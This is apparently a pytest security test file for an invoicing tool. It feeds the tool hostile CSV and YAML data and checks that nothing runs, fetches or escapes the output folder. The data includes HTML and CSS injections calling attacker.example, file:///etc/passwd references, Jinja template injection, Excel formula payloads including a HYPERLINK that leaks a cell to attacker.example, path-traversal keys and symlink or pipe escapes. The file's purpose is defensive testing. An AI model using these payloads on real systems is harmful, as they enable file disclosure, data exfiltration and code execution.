"""Attacks through the data: nothing in an input runs, fetches, or writes outside output/.

A workspace whose exports and rates.yaml carry HTML, a file:// image, a stylesheet link, CSS
url(), Jinja syntax, Excel formulas, very long strings, right-to-left and zero-width
characters is billed, reviewed and reported. Proven: every payload is printed in the PDF as
the text it is; the renderer asked for nothing but the template's own files; the invoice's
HTML has exactly the template's elements that can load something; the e-invoice XML carries
the payloads as text; no workbook has a formula cell other than its own totals; nothing was
written outside output/. Keys, periods and invoice numbers that try path traversal are refused
before any file is touched. A symlink in templates/ that points out of it — an included template,
a linked folder of partials, labels.yaml, the stylesheet — brings nothing from outside into an
invoice: the template and labels are refused naming the file, the stylesheet is not fetched; a
pipe there is refused without being opened for a read that would never end.
"""

from __future__ import annotations

import functools
import os
import re
import threading
import unicodedata
from pathlib import Path
from unittest import mock

import lxml.etree
import lxml.html
import openpyxl
import pytest
from pypdf import PdfReader

from auftakt_batch import billing
from auftakt_batch.billing import CannotIssue, bill
from auftakt_batch.config import parse_config
from auftakt_batch.periods import parse_period
from auftakt_batch.render import pdf
from auftakt_batch.reports import review

from .conftest import RATES, TODAY, Workspace, dedent, edited

NOVEMBER = parse_period("2026-11")
PAYLOADS = [
    '<img src="file:///etc/passwd">',
    '<link rel="stylesheet" href="http://attacker.example/x.css">',
    "<style>@import url('http://attacker.example/y.css');</style>",
    "<div style=\"background: url('file:///etc/shadow')\">styled</div>",
    "<script>document.write('pwned')</script>",
    '<iframe src="http://attacker.example/frame"></iframe>',
    "{{ 7*7 }} {% for x in range(3) %}loop{% endfor %} {{ config }}",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "zero\u200bwidth\u200d joiners\ufeff and marks\u200e",
    "&lt;escaped already&gt; &amp; <!-- a comment --> ]]> <![CDATA[x]]>",
]
BIDI = {"\u202eevil\u202c reversed": "live reversed", "\u202eno end to it": "ti ot dne on"}  # -> as shown
LONG = "long " * 1200  # 6,000 characters
HOSTILE_RATES = edited(edited(dedent(RATES),
    "    name: ACME GmbH\n", "    name: \"ACME <b>GmbH</b> {{ 7*7 }} <img src='file:///etc/passwd'>\"\n"
    "    group_by: entry\n    appendix: true\n"),
    "        name: Website relaunch\n", "        name: \"=HYPERLINK(\\\"http://attacker.example\\\") <i>web</i>\"\n")


def hostile_workspace(root: Path) -> Workspace:
    ws = Workspace(root).with_templates()
    ws.rates(HOSTILE_RATES)
    rows = [f"2026-11-{3 + i % 20:02d},Anna Schmidt,ACME,website,{_csv(p)},{_csv(p)},0:30,yes"
            for i, p in enumerate(PAYLOADS)]
    rows += [f"2026-11-24,Anna Schmidt,ACME,website,,{p},0:45,yes" for p in BIDI]
    rows.append(f"2026-11-25,Anna Schmidt,ACME,website,,{_csv(LONG)},1:00,yes")
    rows.append("2026-11-25,Ben Okafor,globex,app,,API,1:00,yes")
    ws.input("hostile.csv", "date,person,client,job,task,description,hours,billable\n" + "\n".join(rows) + "\n")
    return ws


def _csv(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def files_outside_output(root: Path) -> dict[str, tuple[int, int]]:
    return {p.relative_to(root.parent).as_posix(): (p.stat().st_size, p.stat().st_mtime_ns)
            for p in root.parent.rglob("*") if p.is_file() and not p.is_relative_to(root / "output")}


@pytest.fixture(scope="module")
def billed(tmp_path_factory):
    """The hostile workspace, reviewed, billed (PDFs rendered in this process, each URL the
    renderer asks for recorded) and reported."""
    root = tmp_path_factory.mktemp("attacks") / "ws"
    ws = hostile_workspace(root)
    before = files_outside_output(root)
    asked: list[str] = []
    real = pdf.fetcher_within

    def recording(folder: Path):
        inner = real(folder)

        class Recording(type(inner)):
            def fetch(self, url, headers=None):
                asked.append(url)
                return super().fetch(url, headers)

        return Recording(allowed_protocols={"file"})

    html: list[str] = []
    real_html = billing.invoice_html

    def keep_html(*args, **kwargs):
        html.append(real_html(*args, **kwargs))
        return html[-1]

    review(root, NOVEMBER, today=TODAY)
    with mock.patch.object(pdf, "fetcher_within", recording), mock.patch.object(billing, "invoice_html", keep_html):
        result = bill(root, NOVEMBER, today=TODAY, renderer=functools.partial(pdf.write_pdfs, workers=1))
    assert result.stopped is None and [i.client_key for i in result.issued] == ["acme", "globex"]
    return ws, result, asked, html, before


def pdf_text(path: Path) -> str:
    return "".join(page.extract_text() for page in PdfReader(path).pages)


def visible(text: str) -> str:
    """The text without white space and invisible format characters: the PDF wraps long
    lines, and a text extractor may drop a zero-width or direction mark."""
    return "".join(c for c in text if not c.isspace() and unicodedata.category(c) != "Cf")


def test_every_payload_is_printed_as_text(billed):
    _, result, _, _, _ = billed
    acme = visible(pdf_text(result.issued[0].pdf))
    for payload in PAYLOADS:
        assert visible(payload) in acme, payload
    assert visible("ACME <b>GmbH</b> {{ 7*7 }} <img src='file:///etc/passwd'>") in acme
    assert acme.count("long") == 2 * LONG.count("long")  # in full on its line and in the appendix, across pages


def test_a_direction_override_turns_its_own_text_only(billed):
    _, result, _, _, _ = billed
    shown = " ".join(pdf_text(result.issued[0].pdf).split())
    for shown_as in BIDI.values():  # the Unicode bidi algorithm, within the cell: the hours and money stay put
        assert f"— {shown_as} 24 Nov 2026 0.75 €120.00 €90.00" in shown, shown


def test_the_renderer_fetched_nothing_but_the_templates_files(billed):
    ws, _, asked, _, _ = billed
    templates = (ws.root / "templates").resolve().as_uri()
    assert asked, "the stylesheet at least is fetched"
    assert [url for url in asked if not url.startswith(templates + "/")] == []


def test_the_invoice_html_has_only_the_templates_elements_that_load_things(billed, tmp_path):
    _, _, _, html, _ = billed
    plain = Workspace(tmp_path / "plain").with_templates()
    plain.input("week.csv", """\
        date,person,client,job,task,description,hours,billable
        2026-11-03,Anna Schmidt,ACME,website,,Layout,1:00,yes
        """)
    plain_html: list[str] = []
    bill(plain.root, NOVEMBER, today=TODAY, draft=True,
         renderer=lambda jobs, done, count=None: plain_html.extend(j.html for j in jobs))

    def loaders(document: str) -> list[str]:
        tree = lxml.html.fromstring(document)
        found = [f"{e.tag} {e.get('src') or e.get('href') or e.get('data')}"
                 for e in tree.iter("img", "link", "script", "iframe", "object", "embed", "base", "style", "svg")]
        found += [f"style= {e.get('style')}" for e in tree.iter() if e.get("style") and "url(" in e.get("style")]
        return found

    assert loaders(html[0]) == loaders(plain_html[0])


def test_the_einvoice_carries_the_payloads_as_text(billed):
    _, result, _, _, _ = billed
    xml = (result.issued[0].pdf.with_suffix(".xrechnung.xml"))
    assert not xml.exists()  # ACME is not a public client here: the XML is inside the PDF
    from .test_einvoice import embedded

    root = lxml.etree.fromstring(embedded(result.issued[0].pdf), lxml.etree.XMLParser(resolve_entities=False))
    names = [e.text for e in root.iter("{*}Name")]
    assert "ACME <b>GmbH</b> {{ 7*7 }} <img src='file:///etc/passwd'>" in names
    assert not list(root.iter(lxml.etree.Entity))


def test_no_workbook_has_a_formula_but_its_own_totals(billed):
    ws, result, _, _, _ = billed
    for path in (result.report.path, ws.root / "output" / "2026-11" / "review-2026-11.xlsx"):
        book = openpyxl.load_workbook(path)
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    if (sheet.title, cell.row) == ("Overview", 3) and cell.data_type == "f":  # the headline figures
                        assert re.fullmatch(r'=[A-Z]+\d+|=IF\([A-Z0-9=,"/]*\)|=(SUM|COUNTIF)\([A-Z0-9:]+(,">1")?\)',
                                            cell.value), cell.value
                    elif cell.data_type == "f":
                        assert sheet.title in ("Overview", "Clients", "Jobs", "Months", "Team"), \
                            (path.name, sheet.title, cell.coordinate)
                        assert str(sheet.cell(cell.row, 1).value).startswith("Total"), cell.coordinate
                        assert re.fullmatch(r"=(SUMIFS|SUM|IF)\([A-Z0-9$:,\"<>=/ .*+()-]*\)", cell.value), cell.value
                    elif isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                        assert cell.data_type == "s" and cell.quotePrefix, (path.name, sheet.title, cell.coordinate)


def test_nothing_was_written_outside_output(billed):
    ws, _, _, _, before = billed
    assert files_outside_output(ws.root) == before
    assert not (ws.root.parent / "x").exists()


@pytest.mark.parametrize("key", ["../../x", "..", "a/b", "/etc/passwd", "acme/../../x", "ACME", "-x", "a\x00b"])
def test_a_client_key_that_could_leave_output_is_refused(key):
    config, problems = parse_config(dedent(RATES).replace("  acme:\n", f"  {key!r}:\n" if "\x00" not in key
                                                          else '  "a\\0b":\n'))
    assert config is None
    assert any("is not a key of lower-case letters, digits and '-' (it is used in file names)" in str(p)
               for p in problems), problems


@pytest.mark.parametrize("args", [
    ["bill", "--period", "../../x"],
    ["bill", "--period", "2026-11", "--client", "../../x"],
    ["void", "../../2026-0001", "--reason", "x"],
    ["review", "--period", "2026-11/../../x"],
])
def test_a_period_client_or_number_that_tries_traversal_is_refused(args, tmp_path):
    ws = hostile_workspace(tmp_path / "ws")
    before = files_outside_output(ws.root)
    result = ws.cli(*args)
    assert result.exit_code != 0
    assert files_outside_output(ws.root) == before
    assert not (tmp_path / "x").exists() and not any((tmp_path / "ws" / "output").rglob("*.pdf"))


WEEK = dedent("""\
    date,person,client,job,task,description,hours,billable
    2026-11-03,Anna Schmidt,ACME,website,,Layout,1:00,yes
    """)
OUTSIDE = "copy the file into templates/ instead of linking to it"


def templated(root: Path, include: str | None = None) -> Workspace:
    """A workspace that can bill one invoice; its template includes `include`."""
    ws = Workspace(root).with_templates()
    ws.input("week.csv", WEEK)
    if include:
        page = ws.root / "templates" / "invoice.html"
        page.write_text(page.read_text().replace("<body>", f'<body>{{% include "{include}" %}}', 1))
    return ws


def secret(tmp_path: Path, name: str = "secret.txt", text: str = "SECRET-FROM-OUTSIDE") -> Path:
    path = tmp_path / "outside" / name
    path.parent.mkdir(exist_ok=True)
    path.write_text(text)
    return path


@pytest.mark.parametrize("link, include", [("evil.html", "evil.html"), ("partials", "partials/secret.txt")])
def test_an_include_through_a_symlink_out_of_templates_is_refused(tmp_path, link, include):
    target = secret(tmp_path)
    ws = templated(tmp_path / "ws", include)
    (ws.root / "templates" / link).symlink_to(target if link == "evil.html" else target.parent)
    with pytest.raises(CannotIssue) as refused:
        bill(ws.root, NOVEMBER, today=TODAY, draft=True)
    assert str(refused.value) == (f"templates/{include} points outside templates/ (to {target.resolve()}) — {OUTSIDE}"
                                  "; nothing was issued with it")
    assert not list((ws.root / "output").rglob("*.pdf"))


@pytest.mark.parametrize("make, kind", [(os.mkfifo, "a pipe or a device"), (os.mkdir, "a folder")])
def test_an_include_of_what_is_not_a_file_is_refused(tmp_path, make, kind):
    ws = templated(tmp_path / "ws", "odd.html")
    make(ws.root / "templates" / "odd.html")
    with pytest.raises(CannotIssue) as refused:
        bill(ws.root, NOVEMBER, today=TODAY, draft=True)
    assert str(refused.value) == f"templates/odd.html is {kind}, not a file — put the file itself there; nothing " \
                                 "was issued with it"


def linked(ws, name: str, target):
    """templates/`name` replaced by a symlink to `target`."""
    path = ws.root / "templates" / name
    path.unlink()
    path.symlink_to(target)
    return path


def test_labels_through_a_symlink_out_of_templates_stop_the_run(tmp_path):
    target = secret(tmp_path, "labels.yaml", 'en:\n  title: "SECRET-FROM-OUTSIDE"\n')
    ws = templated(tmp_path / "ws")
    linked(ws, "labels.yaml", target)
    result = bill(ws.root, NOVEMBER, today=TODAY)
    assert result.issued == ()
    assert result.stopped == f"templates/labels.yaml points outside templates/ (to {target.resolve()}) — {OUTSIDE}"
    assert not list((ws.root / "output").rglob("*.pdf"))


@pytest.mark.real_pdf  # reads the PDF
def test_a_stylesheet_through_a_symlink_out_of_templates_is_not_fetched(tmp_path):
    target = secret(tmp_path, "evil.css", 'body::before { content: "SECRET-FROM-OUTSIDE" }')
    ws = templated(tmp_path / "ws")
    css = linked(ws, "invoice.css", target)
    with pytest.raises(pdf.FetchRefused):
        pdf.fetcher_within(ws.root / "templates").fetch(css.as_uri())
    (issued,) = bill(ws.root, NOVEMBER, today=TODAY, draft=True).issued
    text = pdf_text(issued.pdf)
    assert "Website relaunch" in text and "SECRET" not in text


def test_a_stylesheet_that_is_a_pipe_is_not_fetched(tmp_path):
    ws = templated(tmp_path / "ws")
    css = ws.root / "templates" / "invoice.css"
    css.unlink()
    os.mkfifo(css)
    writer = threading.Timer(5, lambda: os.close(os.open(css, os.O_WRONLY | os.O_NONBLOCK)))
    writer.start()  # should it be opened after all, a writer that closes at once ends the wait: fail, not hang
    try:
        with pytest.raises(pdf.FetchRefused):
            pdf.fetcher_within(ws.root / "templates").fetch(css.as_uri())
    finally:
        writer.cancel()


def test_labels_that_are_a_pipe_are_refused(tmp_path):
    from auftakt_batch.render.invoice import LabelsError, load_labels

    (tmp_path / "templates").mkdir()
    labels = tmp_path / "templates" / "labels.yaml"
    os.mkfifo(labels)
    writer = threading.Timer(5, lambda: os.close(os.open(labels, os.O_WRONLY | os.O_NONBLOCK)))
    writer.start()  # should it be opened after all, a writer that closes at once ends the wait: fail, not hang
    try:
        with pytest.raises(LabelsError) as refused:
            load_labels(tmp_path / "templates")
    finally:
        writer.cancel()
    assert str(refused.value) == "templates/labels.yaml is a pipe or a device, not a file — put the file itself there"
